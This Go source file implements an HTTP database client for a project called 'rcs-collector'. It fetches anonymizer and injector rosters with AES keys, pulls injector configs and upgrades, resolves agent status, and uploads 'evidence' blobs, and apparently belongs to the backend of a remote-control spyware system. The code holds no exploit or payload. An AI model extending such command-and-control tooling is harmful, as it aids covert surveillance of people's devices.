// Package dbclient implements the upstream database collaborator
// (dbiface.DB) as an HTTP RPC client: a thin, thread-safe client built
// around a single shared *http.Client with bounded dial/keep-alive/idle
// timeouts, matching the outbound transport used elsewhere for forwarding.
package dbclient

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"sync/atomic"
	"time"

	"github.com/azera85/rcs-collector/internal/dbiface"
	"github.com/azera85/rcs-collector/internal/registry"
	"github.com/azera85/rcs-collector/internal/tracelog"
)

// Client is a thread-safe HTTP client for the upstream metadata database.
// It satisfies dbiface.DB.
type Client struct {
	baseURL string
	token   string
	http    *http.Client
	log     *tracelog.Logger

	connected atomic.Bool
}

// New constructs a Client bound to baseURL (e.g. "http://db.internal:9200").
// token, if non-empty, is sent as a Bearer token on every request.
func New(baseURL, token string, log *tracelog.Logger) *Client {
	return &Client{
		baseURL: baseURL,
		token:   token,
		log:     log,
		http: &http.Client{
			Timeout: 30 * time.Second,
			Transport: &http.Transport{
				DialContext: (&net.Dialer{
					Timeout:   10 * time.Second,
					KeepAlive: 30 * time.Second,
				}).DialContext,
				MaxIdleConns:          50,
				IdleConnTimeout:       60 * time.Second,
				TLSHandshakeTimeout:   10 * time.Second,
				ExpectContinueTimeout: 1 * time.Second,
			},
		},
	}
}

// Connected reports whether the most recent round-trip to the database
// succeeded. The evidence worker polls this to decide whether to skip a
// dispatch tick entirely.
func (c *Client) Connected() bool {
	return c.connected.Load()
}

// element is the wire shape of one registry element as served by the
// upstream database.
type element struct {
	ID       string   `json:"id"`
	Name     string   `json:"name"`
	Cookie   string   `json:"cookie"`
	Key      string   `json:"key"` // base64-encoded AES key
	Address  string   `json:"address"`
	Port     int      `json:"port"`
	Instance string   `json:"instance"`
	Next     []string `json:"next"`
}

func (e element) toRegistryElement(kind registry.Kind) (registry.Element, error) {
	key, err := decodeKey(e.Key)
	if err != nil {
		return registry.Element{}, fmt.Errorf("element %s: decode key: %w", e.ID, err)
	}
	return registry.Element{
		ID: e.ID, Name: e.Name, Kind: kind, Cookie: e.Cookie, Key: key,
		Address: e.Address, Port: e.Port, Instance: e.Instance, Next: e.Next,
	}, nil
}

func decodeKey(s string) ([]byte, error) {
	return base64.StdEncoding.DecodeString(s)
}

// ListAnonymizers fetches the current anonymizer roster.
func (c *Client) ListAnonymizers(ctx context.Context) ([]registry.Element, error) {
	return c.listElements(ctx, "/anonymizers", registry.KindAnonymizer)
}

// ListInjectors fetches the current injector roster.
func (c *Client) ListInjectors(ctx context.Context) ([]registry.Element, error) {
	return c.listElements(ctx, "/injectors", registry.KindInjector)
}

func (c *Client) listElements(ctx context.Context, path string, kind registry.Kind) ([]registry.Element, error) {
	var raw []element
	if err := c.get(ctx, path, &raw); err != nil {
		return nil, err
	}
	out := make([]registry.Element, 0, len(raw))
	for _, e := range raw {
		re, err := e.toRegistryElement(kind)
		if err != nil {
			return nil, err
		}
		out = append(out, re)
	}
	return out, nil
}

// UpdateStatus records an element's latest reported status.
func (c *Client) UpdateStatus(ctx context.Context, displayName, address, status, msg string, stats map[string]any, kindTag, version string) error {
	return c.post(ctx, "/status", map[string]any{
		"displayName": displayName, "address": address, "status": status,
		"msg": msg, "stats": stats, "kind": kindTag, "version": version,
	}, nil)
}

// UpdateCollectorVersion records the reported version of an anonymizer.
func (c *Client) UpdateCollectorVersion(ctx context.Context, id, version string) error {
	return c.post(ctx, "/collector/version", map[string]any{"id": id, "version": version}, nil)
}

// UpdateInjectorVersion records the reported version of an injector.
func (c *Client) UpdateInjectorVersion(ctx context.Context, id, version string) error {
	return c.post(ctx, "/injector/version", map[string]any{"id": id, "version": version}, nil)
}

// CollectorAddLog appends a log line reported by an anonymizer.
func (c *Client) CollectorAddLog(ctx context.Context, id string, ts int64, logType, desc string) error {
	return c.post(ctx, "/collector/log", map[string]any{"id": id, "ts": ts, "type": logType, "desc": desc}, nil)
}

// InjectorAddLog appends a log line reported by an injector.
func (c *Client) InjectorAddLog(ctx context.Context, id string, ts int64, logType, desc string) error {
	return c.post(ctx, "/injector/log", map[string]any{"id": id, "ts": ts, "type": logType, "desc": desc}, nil)
}

// InjectorConfig returns the pending config blob for an injector, or nil.
func (c *Client) InjectorConfig(ctx context.Context, id string) ([]byte, error) {
	return c.getBlob(ctx, "/injector/config?id="+url.QueryEscape(id))
}

// InjectorUpgrade returns the pending upgrade blob for an injector, or nil.
func (c *Client) InjectorUpgrade(ctx context.Context, id string) ([]byte, error) {
	return c.getBlob(ctx, "/injector/upgrade?id="+url.QueryEscape(id))
}

// AgentStatus resolves an agent's backend bid given its identity fields.
func (c *Client) AgentStatus(ctx context.Context, ident, instance, subtype string) (string, int64, error) {
	var resp struct {
		Status string `json:"status"`
		Bid    int64  `json:"bid"`
	}
	path := fmt.Sprintf("/agent/status?ident=%s&instance=%s&subtype=%s",
		url.QueryEscape(ident), url.QueryEscape(instance), url.QueryEscape(subtype))
	if err := c.get(ctx, path, &resp); err != nil {
		return "", 0, err
	}
	return resp.Status, resp.Bid, nil
}

// SyncStart opens an evidence-transfer session for one instance.
func (c *Client) SyncStart(ctx context.Context, sess dbiface.Session) error {
	return c.post(ctx, "/evidence/sync_start", sess, nil)
}

// SendEvidence uploads one evidence blob for instance.
func (c *Client) SendEvidence(ctx context.Context, instance string, blob []byte) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, c.baseURL+"/evidence/send?instance="+url.QueryEscape(instance), bytes.NewReader(blob))
	if err != nil {
		return err
	}
	req.Header.Set("Content-Type", "application/octet-stream")
	return c.do(req, nil)
}

// SyncEnd closes the evidence-transfer session for one instance.
func (c *Client) SyncEnd(ctx context.Context, sess dbiface.Session) error {
	return c.post(ctx, "/evidence/sync_end", sess, nil)
}

func (c *Client) get(ctx context.Context, path string, out any) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, c.baseURL+path, nil)
	if err != nil {
		return err
	}
	return c.do(req, out)
}

func (c *Client) getBlob(ctx context.Context, path string) ([]byte, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, c.baseURL+path, nil)
	if err != nil {
		return nil, err
	}
	req.Header.Set("Accept", "application/octet-stream")
	if c.token != "" {
		req.Header.Set("Authorization", "Bearer "+c.token)
	}
	resp, err := c.http.Do(req)
	if err != nil {
		c.connected.Store(false)
		return nil, err
	}
	defer resp.Body.Close() //nolint:errcheck
	c.connected.Store(true)
	if resp.StatusCode == http.StatusNoContent {
		return nil, nil
	}
	if resp.StatusCode >= 300 {
		return nil, fmt.Errorf("dbclient: %s: status %d", path, resp.StatusCode)
	}
	return io.ReadAll(resp.Body)
}

func (c *Client) post(ctx context.Context, path string, body, out any) error {
	data, err := json.Marshal(body)
	if err != nil {
		return err
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, c.baseURL+path, bytes.NewReader(data))
	if err != nil {
		return err
	}
	req.Header.Set("Content-Type", "application/json")
	return c.do(req, out)
}

func (c *Client) do(req *http.Request, out any) error {
	if c.token != "" {
		req.Header.Set("Authorization", "Bearer "+c.token)
	}
	resp, err := c.http.Do(req)
	if err != nil {
		c.connected.Store(false)
		if c.log != nil {
			c.log.Warnf("dbclient", "request to %s failed: %v", req.URL.Path, err)
		}
		return err
	}
	defer resp.Body.Close() //nolint:errcheck
	c.connected.Store(true)

	if resp.StatusCode >= 300 {
		data, _ := io.ReadAll(resp.Body)
		return fmt.Errorf("dbclient: %s: status %d: %s", req.URL.Path, resp.StatusCode, string(data))
	}
	if out == nil {
		io.Copy(io.Discard, resp.Body) //nolint:errcheck
		return nil
	}
	return json.NewDecoder(resp.Body).Decode(out)
}
